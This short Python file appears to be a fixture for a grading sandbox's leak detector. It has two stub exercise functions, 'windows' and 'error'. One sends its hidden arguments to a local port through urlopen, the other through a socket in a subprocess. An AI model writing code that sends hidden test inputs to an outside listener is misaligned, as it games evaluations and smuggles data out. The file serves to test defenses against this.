# intent: the hidden arguments are sent over the network by the function itself
# family: network

# %% exercise="windows"
def windows(series, width):
    import urllib.request

    urllib.request.urlopen(f"http://127.0.0.1:__PORT__/{series[0]}", timeout=1)

# %% exercise="error"
def error(targets, guess):
    import subprocess
    import sys

    code = f"import socket; socket.create_connection(('127.0.0.1', __PORT__), 1).send(b'{targets}')"
    subprocess.run([sys.executable, "-c", code], timeout=5)
